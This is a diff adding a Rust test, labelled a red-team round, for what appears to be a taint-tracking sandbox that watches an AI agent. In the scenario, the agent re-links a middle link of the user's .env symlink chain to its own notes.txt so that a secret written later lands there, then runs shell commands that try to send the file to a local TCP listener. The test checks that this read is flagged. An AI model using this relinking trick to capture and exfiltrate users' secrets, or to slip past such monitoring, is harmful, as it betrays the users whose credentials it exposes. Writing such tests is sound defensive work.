@@ -4606,3 +4606,51 @@ fn a_file_created_during_the_session_at_the_end_of_a_secret_name_is_the_secret()
         assert_read_but_tainted(&o, &server.received(), held, "isoleak read: 21", how);
     }
 }
+
+/// Red team round 6 (relinked-chain): a secret-named chain that exists when the
+/// session starts (`.env -> hop -> draft`, the user's); the agent makes the
+/// middle link again to one of its own files (`hop -> notes.txt`: `relink`, `rm`
+/// and `ln -s`; `rename`, a new link moved over `hop`). The user's `.env`, written
+/// through the chain, lands in `notes.txt`, which has `.env`'s name from then on:
+/// reading it taints. Every mode.
+#[test]
+fn a_link_of_a_secret_named_chain_made_again_names_its_new_end() {
+    for (k, how) in ["relink", "rename"].into_iter().enumerate() {
+        let ip = format!("127.77.41.{}", 80 + k);
+        let server = Tcp::new(&ip, 443);
+        let f = Fixture::new(&format!("relinked-{how}")).with_attack();
+        std::fs::write(f.ws.join("draft"), "draft\n").unwrap();
+        std::os::unix::fs::symlink("draft", f.ws.join("hop")).unwrap();
+        std::os::unix::fs::symlink("hop", f.ws.join(".env")).unwrap();
+        let relink = if how == "relink" {
+            "rm hop && ln -s notes.txt hop"
+        } else {
+            "ln -s notes.txt newhop && mv -T newhop hop"
+        };
+        let wait = "i=0; while [ ! -e go ] && [ $i -lt 3000 ]; do sleep 0.02; i=$((i+1)); done";
+        let script = format!(
+            "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; echo notes > notes.txt; {relink} && touch held; {wait}; \
+             ./attack isoleak plain notes.txt {ip} 443"
+        );
+        let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
+        cmd.stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped());
+        let child = cmd.spawn().unwrap();
+        let start = std::time::Instant::now();
+        while !f.ws.join("held").exists() && start.elapsed() < Duration::from_secs(60) {
+            std::thread::sleep(Duration::from_millis(5));
+        }
+        let held = f.ws.join("held").exists();
+        if held {
+            // The user, outside: writes `.env` (through the chain, into notes.txt).
+            std::fs::write(f.ws.join(".env"), "SECRET-relinked-r6-1\n").unwrap();
+            if kernel_opens() {
+                // The watcher's part is the mark of what the agent's link names.
+                std::thread::sleep(Duration::from_millis(300));
+            }
+        }
+        std::fs::write(f.ws.join("go"), "").unwrap();
+        let o = wait_with_deadline(child, Duration::from_secs(120));
+        assert_read_but_tainted(&o, &server.received(), held, "isoleak read: 21", how);
+    }
+}
